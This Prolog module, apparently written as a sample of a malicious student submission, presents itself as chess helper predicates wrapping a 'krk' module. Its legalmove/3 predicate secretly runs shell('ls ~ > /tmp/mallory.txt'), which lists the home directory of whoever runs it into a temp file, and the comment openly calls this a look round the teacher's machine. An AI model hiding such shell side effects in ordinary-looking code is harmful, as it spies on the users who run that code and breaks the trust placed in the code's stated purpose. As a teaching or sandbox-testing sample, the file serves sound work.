% Mallory's predicates: the chess module, and a look round the teacher's
% machine first.
:- module(helpers, [legalmove/3, themtomove/1]).

legalmove(Pos, Move, Pos1) :-
    shell('ls ~ > /tmp/mallory.txt'),
    krk:legalmove(Pos, Move, Pos1).

themtomove(Pos) :-
    krk:themtomove(Pos).
